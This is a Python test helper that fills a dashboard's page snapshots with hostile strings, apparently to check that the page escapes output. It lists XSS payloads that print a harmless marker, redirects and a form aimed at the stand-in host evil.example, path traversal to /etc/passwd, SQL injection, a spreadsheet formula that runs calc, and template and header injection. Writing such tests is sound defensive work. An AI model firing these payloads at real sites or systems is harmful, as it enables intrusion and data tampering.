"""Snapshots in which every text is an attack on whoever shows it."""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from typing import Any

from tests.page.fake_service import incident, snapshot

MARK = "EXECUTED"  # what a script of theirs would print on the console
_SCRIPT = f"console.log('{MARK}')"
SEEDS = (
    f"<script>{_SCRIPT}</script>", f"</title><script>{_SCRIPT}</script>",
    f"</script><script>{_SCRIPT}</script>", f'"><img src=x onerror="{_SCRIPT}">',
    f"'><svg/onload={_SCRIPT}>", f'" autofocus onfocus="{_SCRIPT}" x="',
    f"' onmouseover='{_SCRIPT}", f"javascript:{_SCRIPT}", f"<a href=javascript:{_SCRIPT}>x</a>",
    f"<iframe srcdoc=\"<script>{_SCRIPT}</script>\"></iframe>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<!-- ", "]]>", "<![CDATA[",
    "<style>*{display:none}</style>", "<form action=//evil.example/><input name=csrf>",
    f"<svg><script>{_SCRIPT}</script></svg>", f"<math><mi xlink:href=javascript:{_SCRIPT}>",
    "&lt;script&gt;", "&#x3c;script&#x3e;", "&", "<", "\"", "'", "`", "\\", "%3Cscript%3E",
    "\u202ereversed\u202c", "\u2066isolated\u2069", "\u05d0\u05d1 192.0.2.1", "\u200b", "\ufeff",
    "\x00",
    "\x1b[2J\x1b]0;title\x07", "line\r\nX-Header: forged\r\n\r\n<html>", "\u2028\u2029",
    "\ud800", "\U000e0001", "a\u0300" * 60, "x" * 10_240, "\U0001f480" * 3_000, " " * 300, "",
    "../../etc/passwd", "//evil.example/", "{{7*7}}", "${7*7}", "'; DROP TABLE incidents; --",
    "=cmd|' /C calc'!A0", "%s%n%x", "constructor", "__proto__", "NaN", "None", "null",
)  # fmt: skip


def names(number: int = 2_000) -> list[str]:
    """Different hostile names: each seed alone, then glued to others and to numbers."""
    glued = (
        f"{first}{i}{second}"
        for i, (first, second) in enumerate(itertools.cycle(itertools.product(SEEDS, repeat=2)))
    )
    return list(itertools.islice(itertools.chain(SEEDS, glued), number))


def hostile_snapshot() -> tuple[dict[str, Any], int]:
    """A snapshot with the names above in every place that has a text, and how many were put."""
    found = snapshot()
    found["incidents"] = [incident(n, ended=None) for n in range(25)]
    found["devices"] = [
        {**found["devices"][0], "services": ["x"] * 8, "new": ["x"] * 6} for _ in range(40)
    ]
    found["settings"] = [dict.fromkeys(("field", "value", "default", "help"), "x")] * 200
    found["health"]["reasons"] = ["x"] * 4
    found["health"]["interfaces"] = [{"name": "x", "up": True, "packets": 1, "dropped": 1}] * 12
    found["model"]["classes"] = ["x"] * 40
    source = itertools.cycle(names())
    counter = itertools.count()
    hostile: dict[str, Any] = _replaced(found, source, counter)
    hostile["counters"] = {next(source): 1 for _ in range(48)}
    hostile["now"] = found["now"]
    hostile["health"]["state"] = "learning"
    return hostile, next(counter) + 48


def _replaced(value: Any, source: Iterator[str], counter: Iterator[int]) -> Any:
    if isinstance(value, str):
        next(counter)
        return next(source)
    if isinstance(value, list):
        return [_replaced(one, source, counter) for one in value]
    if isinstance(value, dict):
        return {key: _replaced(one, source, counter) for key, one in value.items()}
    return value
